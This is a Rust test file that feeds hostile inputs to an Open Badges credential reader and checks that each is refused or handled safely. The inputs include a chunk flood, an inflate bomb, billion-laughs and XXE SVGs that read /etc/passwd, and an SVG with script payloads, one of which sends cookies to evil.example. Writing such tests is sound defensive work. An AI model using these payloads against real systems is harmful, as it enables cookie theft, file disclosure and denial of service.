//! Hostile inputs through the one entry point (`input::read` + `input::verify`): each is
//! refused with a clear message, never a panic, and without building anything large.
//! (Timings are measured by hand, see the fuzz notes; tests never assert on time.)

use std::collections::HashMap;
use std::path::PathBuf;

use base64::Engine as _;
use chrono::{TimeZone, Utc};
use openbadges::baking::{BakingError, Limits};
use openbadges::input::{self, Input, MAX_INPUT_BYTES, ReadError};
use openbadges::verify::{NoResolver, Options, Verdict};
use serde_json::Value;

const PNG_SIGNATURE: &[u8; 8] = b"\x89PNG\r\n\x1a\n";

fn chunk(out: &mut Vec<u8>, kind: &[u8; 4], data: &[u8]) {
    out.extend_from_slice(&u32::try_from(data.len()).expect("small").to_be_bytes());
    out.extend_from_slice(kind);
    out.extend_from_slice(data);
    let mut h = crc32fast::Hasher::new();
    h.update(kind);
    h.update(data);
    out.extend_from_slice(&h.finalize().to_be_bytes());
}

/// A PNG with the given IHDR size and extra chunks before `IDAT`.
fn png(width: u32, height: u32, extra: impl FnOnce(&mut Vec<u8>)) -> Vec<u8> {
    let mut out = PNG_SIGNATURE.to_vec();
    let mut ihdr = width.to_be_bytes().to_vec();
    ihdr.extend_from_slice(&height.to_be_bytes());
    ihdr.extend_from_slice(&[8, 6, 0, 0, 0]);
    chunk(&mut out, b"IHDR", &ihdr);
    extra(&mut out);
    // A zlib stream of a few bytes: the pixels are never decoded.
    chunk(&mut out, b"IDAT", &[0x78, 0x9c, 0x63, 0, 0, 0, 1, 0, 1]);
    chunk(&mut out, b"IEND", &[]);
    out
}

fn fixture(name: &str) -> Vec<u8> {
    std::fs::read(
        PathBuf::from(env!("CARGO_MANIFEST_DIR"))
            .join("tests/fixtures/independent")
            .join(name),
    )
    .expect("fixture")
}

fn documents() -> HashMap<String, Value> {
    serde_json::from_slice(&fixture("documents.json")).expect("documents")
}

fn options() -> Options {
    Options {
        now: Utc.with_ymd_and_hms(2030, 1, 1, 0, 0, 0).single(),
        recipient_email: None,
    }
}

#[test]
fn a_100k_chunk_png_is_refused_for_its_chunk_count() {
    let flood = png(1, 1, |out| {
        for _ in 0..100_000 {
            chunk(out, b"tEXt", b"a\0b");
        }
    });
    let err = input::read(&flood).expect_err("refused");
    assert_eq!(
        err,
        ReadError::Image(BakingError::TooManyChunks(Limits::default().max_chunks))
    );
    assert!(err.to_string().contains("more than 4096 chunks"), "{err}");
}

#[test]
fn an_inflate_bomb_in_an_ob2_chunk_is_cut_off() {
    use std::io::Write as _;
    let mut z = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
    // 128 MB of zeros in about 128 KB: inflating stops at the credential limit (1 MB).
    for _ in 0..128 {
        z.write_all(&[0u8; 1024 * 1024]).expect("write");
    }
    let bomb = z.finish().expect("finish");
    let image = png(1, 1, |out| {
        let mut data = b"openbadges\0\x01\0\0\0".to_vec();
        data.extend_from_slice(&bomb);
        chunk(out, b"iTXt", &data);
    });
    let err = input::read(&image).expect_err("refused");
    assert!(
        matches!(err, ReadError::Image(BakingError::CredentialTooLarge(_))),
        "{err:?}"
    );
}

#[test]
fn truncated_pngs_are_damaged_images() {
    let baked = fixture("ob2-signed.png");
    for cut in [8, 12, 30, baked.len() / 2, baked.len() - 1] {
        let err = input::read(&baked[..cut]).expect_err("truncated");
        assert!(
            matches!(err, ReadError::Image(BakingError::CorruptPng(_))),
            "cut at {cut}: {err:?}"
        );
        assert!(err.to_string().contains("damaged"), "{err}");
    }
}

#[test]
fn huge_dimensions_are_never_decoded() {
    // 2^31-1 × 2^31-1 pixels: only the chunks are read, the pixels never are.
    let empty = png(0x7fff_ffff, 0x7fff_ffff, |_| {});
    assert_eq!(input::read(&empty), Err(ReadError::NoBadgeInImage));
    assert!(
        ReadError::NoBadgeInImage
            .to_string()
            .contains("no badge data is baked into it")
    );
    let jws = String::from_utf8(fixture("ob2-signed.jws")).expect("text");
    let baked = png(0x7fff_ffff, 0x7fff_ffff, |out| {
        let mut data = b"openbadges\0\0\0\0\0".to_vec();
        data.extend_from_slice(jws.trim().as_bytes());
        chunk(out, b"iTXt", &data);
    });
    let read = input::read(&baked).expect("read");
    assert!(matches!(read, Input::Jwt(_)));
    assert!(input::verify(&read, &documents(), &options()).is_good());
}

#[test]
fn billion_laughs_and_xxe_svgs_are_refused_before_any_entity_is_read() {
    let laughs = r#"<?xml version="1.0"?>
<!DOCTYPE svg [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol9 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="http://openbadges.org"><openbadges:assertion verify="&lol9;"/></svg>"#;
    let xxe = r#"<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0"><openbadges:credential><![CDATA[&xxe;]]></openbadges:credential><text>&xxe;</text></svg>"#;
    for svg in [laughs, xxe] {
        let err = input::read(svg.as_bytes()).expect_err("refused");
        assert_eq!(err, ReadError::Image(BakingError::Dtd));
        assert!(err.to_string().contains("DTD"), "{err}");
    }
    // An entity used without a DTD is not expanded into anything either.
    let undeclared = r#"<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="http://openbadges.org"><openbadges:assertion verify="&xxe;"/></svg>"#;
    assert!(input::read(undeclared.as_bytes()).is_err());
}

#[test]
fn five_megabytes_of_nesting_is_refused_as_json_and_as_a_token() {
    let depth = 5 * 1024 * 1024 / 6;
    let nested = format!("{}1{}", r#"{"a":"#.repeat(depth), "}".repeat(depth));
    let err = input::read(nested.as_bytes()).expect_err("refused");
    assert!(matches!(err, ReadError::BadJson(_)), "{err:?}");
    assert!(err.to_string().contains("recursion limit"), "{err}");
    // The same as the payload of a JWS (VC-JWT or OB 2.0 signed assertion).
    let b64 = |s: &str| base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(s);
    let token = format!(
        "{}.{}.{}",
        b64(r#"{"alg":"RS256"}"#),
        b64(&nested),
        b64("sig")
    );
    assert_eq!(
        input::read(token.as_bytes()),
        Err(ReadError::NotACredential)
    );
    let report = input::verify(&Input::Jwt(token), &NoResolver, &options());
    assert_eq!(report.verdict, Verdict::NotVerified);
}

#[test]
fn a_ten_megabyte_string_is_read_and_refused_without_fetching() {
    let long = "a".repeat(10 * 1024 * 1024);
    // As text that is no badge.
    assert_eq!(input::read(long.as_bytes()), Err(ReadError::NotACredential));
    // Inside an OB 3.0 credential that is not one.
    let credential = format!(
        r#"{{"@context":["https://www.w3.org/ns/credentials/v2"],"type":["VerifiableCredential"],"name":"{long}"}}"#
    );
    let read = input::read(credential.as_bytes()).expect("json");
    let report = input::verify(&read, &NoResolver, &options());
    assert_eq!(report.verdict, Verdict::NotVerified);
    assert_eq!(report.reason().map(|c| c.id), Some("format"));
    // As an OB 2.0 assertion address: far too long to be one.
    let url = format!("https://issuer.example/{long}");
    assert_eq!(input::read(url.as_bytes()), Err(ReadError::NotACredential));
    // Inside a signed OB 2.0 assertion whose issuer is unknown.
    let b64 = |s: &str| base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(s);
    let payload = format!(
        r#"{{"@context":"https://w3id.org/openbadges/v2","type":"Assertion","id":"urn:uuid:1","recipient":{{"type":"email","identity":"{long}"}},"badge":"https://nowhere.example/b","issuedOn":"2026-01-01","verification":{{"type":"signed"}}}}"#
    );
    let token = format!(
        "{}.{}.{}",
        b64(r#"{"alg":"RS256"}"#),
        b64(&payload),
        b64("sig")
    );
    let read = input::read(token.as_bytes()).expect("token");
    let report = input::verify(&read, &HashMap::<String, Value>::new(), &options());
    assert_eq!(
        report.verdict,
        Verdict::NotVerified,
        "{:?}",
        report.reason()
    );
    // Over the input limit.
    let huge = vec![b' '; MAX_INPUT_BYTES + 1];
    assert_eq!(input::read(&huge), Err(ReadError::TooLarge));
}

#[test]
fn an_svg_with_scripts_and_event_handlers_still_yields_its_credential() {
    let credential = String::from_utf8(fixture("ob3-didweb.json")).expect("text");
    let svg = format!(
        r#"<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0" onload="alert(document.cookie)" width="10" height="10">
<script type="text/javascript"><![CDATA[ fetch('https://evil.example/?c=' + document.cookie); ]]></script>
<openbadges:credential><![CDATA[{credential}]]></openbadges:credential>
<rect width="10" height="10" onclick="alert(1)" onmouseover="alert(2)"/>
<a href="javascript:alert(3)"><text>x</text></a>
</svg>"#
    );
    let read = input::read(svg.as_bytes()).expect("read");
    let report = input::verify(&read, &documents(), &options());
    assert!(report.is_good(), "{report:#?}");
    // The same for an OB 2.0 signed assertion baked the 2.0 way.
    let jws = String::from_utf8(fixture("ob2-signed.jws")).expect("text");
    let svg = format!(
        r#"<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="http://openbadges.org" onload="alert(1)"><script>alert(2)</script><openbadges:assertion verify="{}"/></svg>"#,
        jws.trim()
    );
    let read = input::read(svg.as_bytes()).expect("read");
    assert!(input::verify(&read, &documents(), &options()).is_good());
}
